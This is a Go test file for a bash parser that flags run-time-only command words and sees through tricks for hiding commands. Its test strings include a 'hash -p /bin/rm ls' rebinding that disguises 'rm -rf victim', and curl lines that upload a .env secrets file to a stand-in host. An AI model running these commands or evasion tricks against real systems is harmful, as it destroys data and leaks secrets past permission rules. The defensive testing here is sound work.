package bashparse

import (
	"slices"
	"testing"
)

// red13traceUnresolved reports whether the analysis of src has an
// unresolved part.
func red13traceUnresolved(src string) bool {
	a := Parse(src)
	return len(a.Unresolved) > 0
}

// red13traceCheck parses each of bad (each must have an unresolved part)
// and good (none may have one).
func red13traceCheck(t *testing.T, bad, good []string) {
	t.Helper()
	for _, src := range bad {
		if !red13traceUnresolved(src) {
			t.Errorf("%q: no unresolved part", src)
		}
	}
	for _, src := range good {
		if a := Parse(src); len(a.Unresolved) > 0 {
			t.Errorf("%q: unresolved %+v", src, a.Unresolved)
		}
	}
}

// TestStateBuiltinDynamicWords: a word known only at run time given to a
// builtin that binds a name or runs code may be anything (r13t-1).
func TestStateBuiltinDynamicWords(t *testing.T) {
	red13traceCheck(t, []string{
		"a=ls=rm; alias \"$a\"",
		"read a; alias $a",
		"alias \"${a}\"",
		"alias ll=\"$x\"",
		"builtin alias \"$a\"",
		"x='.bin/rm ls'; hash -p $x",
		"hash $x",
		"command hash -p \"$p\" ls",
		"compgen $x victim",
		"compgen -W x \"$o\"",
		"complete $x ls",
		"fc $x",
		"enable $x",
		"enable -n \"$b\"",
		"bind $x",
		"mapfile $x a",
		"readarray -C \"$cb\" -c 1 a",
		"export \"$x\"",
		"export $x",
		"readonly \"$x\"",
		"declare \"$x\"",
		"typeset -$o x",
		"local \"$n\"=1",
		"builtin export \"$x\"",
		"export 'A'\"$x\"=1",
	}, []string{
		"hash ls",
		"hash -r",
		"compgen -c",
		"export FOO=\"$x\"",
		"export FOO=$HOME/x \"BAR=$y\" BAZ+=$z",
		"f() { local a=\"$1\" b=$2; echo \"$a $b\"; }",
		"readonly N=1",
		"mapfile -t a < \"$f\"",
		"declare -a arr=(\"$x\" \"$y\")",
	})
}

// TestHistoryExpansionTurnedOn: with history and histexpand on, bash
// rewrites later lines (!!, ^old^new) before it parses them (r13t-2).
func TestHistoryExpansionTurnedOn(t *testing.T) {
	red13traceCheck(t, []string{
		"set -H",
		"set -eH",
		"set -o history -H",
		"set -o histexpand",
		"set -Ho history",
		"shopt -so histexpand",
		"shopt -o -s histexpand",
		"set -o $x",
		"builtin set -H",
		"bash -H script.sh",
	}, []string{
		"set +H",
		"set +o histexpand",
		"set -o history",
		"set -euo pipefail",
		"shopt -s histappend",
		"shopt -u -o histexpand",
		"echo 'x!!'",
	})
}

// TestEnvSplitString: env -S splits by coreutils' rules, checked against
// GNU env 9.1 (r13t-3); nil means env rejects the string or reads the
// environment.
func TestEnvSplitString(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want []string
	}{
		{`a b`, []string{"a", "b"}},
		{`a\_b`, []string{"a", "b"}},
		{`"a\_b"`, []string{"a b"}},
		{`a\tb`, []string{"a\tb"}},
		{`'a\_b'`, []string{`a\_b`}},
		{`'a\\b\'c'`, []string{`a\b'c`}},
		{`a #b c`, []string{"a"}},
		{`a#b`, []string{"a#b"}},
		{`a\cb c`, []string{"a"}},
		{`"a b" 'c d'`, []string{"a b", "c d"}},
		{`a\#b a\$b a\"b`, []string{"a#b", "a$b", `a"b`}},
		{`a '' b`, []string{"a", "", "b"}},
		{`a"b c"d`, []string{"ab cd"}},
		{"\ta\tb\t", []string{"a", "b"}},
		{`a\qb`, nil},
		{`"a\cb"`, nil},
		{`'a`, nil},
		{`a\`, nil},
		{`${X} b`, nil},
	} {
		got, ok := envSplit(tc.in)
		var vals []string
		for _, w := range got {
			vals = append(vals, w.Value)
		}
		if ok != (tc.want != nil) || ok && !slices.Equal(vals, tc.want) {
			t.Errorf("%q: got %q %v, want %q", tc.in, vals, ok, tc.want)
		}
	}
}

// TestHashBindsCodeRunLater: a name hash -p rebinds runs the new program
// in a function body, trap or loop turn read before the hash (r13t-4).
func TestHashBindsCodeRunLater(t *testing.T) {
	runsRm := func(a *Analysis) bool {
		return slices.ContainsFunc(a.Commands, func(c Command) bool {
			return c.Wide.Name == "rm" && slices.Equal(c.Wide.Args, []string{"-rf", "victim"})
		})
	}
	for _, src := range []string{
		"f() { ls -rf victim; }; hash -p /bin/rm ls; f",
		"trap 'ls -rf victim' EXIT; hash -p /bin/rm ls",
		"for i in 1 2; do ls -rf victim; hash -p /bin/rm ls; done",
		"f() { ls -rf victim; }; eval 'hash -p /bin/rm ls'; f",
		"f() { command ls -rf victim; }; hash -p /bin/rm ls; f",
		"hash -p /bin/rm ls; ls -rf victim",
	} {
		if a := Parse(src); !runsRm(&a) {
			t.Errorf("%q: rm -rf victim not seen: %v", src, red12traceViews(&a))
		}
	}
	if a := Parse("f() { ls -rf victim; }; hash -p /bin/rm cat; f"); runsRm(&a) {
		t.Errorf("a hash of another name rebinds ls: %v", red12traceViews(&a))
	}
}

// TestVariableOptionWords: a word from a variable can be an option; a
// known value that is one spells the command for deny and ask rules, an
// unknown one given to a program with power options is unresolved
// (r13t-5).
func TestVariableOptionWords(t *testing.T) {
	readsEnv := func(a *Analysis) bool {
		return slices.ContainsFunc(a.Commands, func(c Command) bool {
			return slices.ContainsFunc(c.Files, func(f File) bool { return f.Path == ".env" && !f.Dynamic })
		})
	}
	for _, src := range []string{
		`x=-T.env; curl "$x" http://x.example`,
		`x=T.env; curl "-$x" http://x.example`,
		`for u in a -T.env; do curl "$u"; done`,
		`x=-f.env; grep "$x" victim`,
	} {
		if a := Parse(src); !readsEnv(&a) {
			t.Errorf("%q: .env not read: %v", src, red12traceViews(&a))
		}
	}
	red13traceCheck(t, []string{
		`read x; curl "$x" http://x.example`,
		`read x; git log "$x"`,
		`curl "$1"`,
		"curl `cat u`",
		`read x; man "$x" ls`,
		`x=$(cat u); rg "$x" .`,
	}, []string{
		`for u in a b; do curl "http://x.example/$u"; done`,
		`x=-n; grep "$x" victim`,
		`read f; git log -- "$f"`,
		`read b; git log "origin/$b"`,
		`git checkout "$BRANCH"`,
		`git log "$HOME"`,
		`for ((i=0; i<3; i++)); do make $i; done`,
		`read x; echo "$x"`,
	})
}

// TestFcRunsHistory: fc executes history entries unless it lists them
// (r13t-6).
func TestFcRunsHistory(t *testing.T) {
	red13traceCheck(t, []string{
		"fc", "fc -1", "fc -e -", "fc -e-", "fc -e - rm", "fc -e true", "fc -e : 1", "fc -s", "fc -el",
		"fc -e l", "fc $x", "builtin fc -e -", "fc -- -l",
	}, []string{
		"fc -l", "fc -ln -5", "fc -rl 1 5", "fc -nl -- -3", "fc -e vi -l",
	})
}
